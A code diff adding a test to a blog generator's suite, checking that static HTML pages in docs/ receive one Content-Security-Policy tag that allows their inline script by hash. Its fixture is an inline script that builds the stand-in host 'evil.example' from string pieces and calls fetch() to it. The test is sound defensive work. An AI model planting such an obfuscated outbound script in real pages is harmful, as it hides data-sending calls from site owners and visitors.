@@ -330,3 +330,26 @@ def test_an_excerpt_separator_inside_an_element_or_comment_fails(tmp_path, aroun
     config = make_site(tmp_path / "copy", {"post.md": text})
     code, output = build(config, tmp_path)
     assert_fails_naming(code, output, "Doc file 'blog/posts/post.md'", "excerpt separator")
+
+
+def test_static_html_files_of_docs_carry_the_policy_too(tmp_path):
+    """A page of docs/ published as it is (no page event runs for it), .html or .htm,
+    gets the same policy, its own inline script allowed by hash; a page gets it once."""
+    from tested_blog import csp
+
+    config = make_site(tmp_path / "copy", {"post.md": post("post", "Post")})
+    script = "<script>var h=['evil','example'].join('.');fetch('https://'+h+'/b');</script>"
+    for name in ("demo.html", "old.htm"):
+        (config.parent / "docs" / name).write_text(
+            f"<!doctype html><html><head><title>t</title></head><body>{script}</body></html>",
+            encoding="utf-8",
+        )
+    code, output = build(config, tmp_path)
+    assert code == 0, output
+    for name in ("demo.html", "old.htm"):
+        html = (tmp_path / "out" / name).read_text(encoding="utf-8")
+        assert html.count("Content-Security-Policy") == 1, name
+        policy = html.split('http-equiv="Content-Security-Policy" content="', 1)[1]
+        assert policy.startswith(csp.policy(csp.inline_script_hashes(html))), name
+    page = (tmp_path / "out" / "blog" / "post" / "index.html").read_text(encoding="utf-8")
+    assert page.count("Content-Security-Policy") == 1
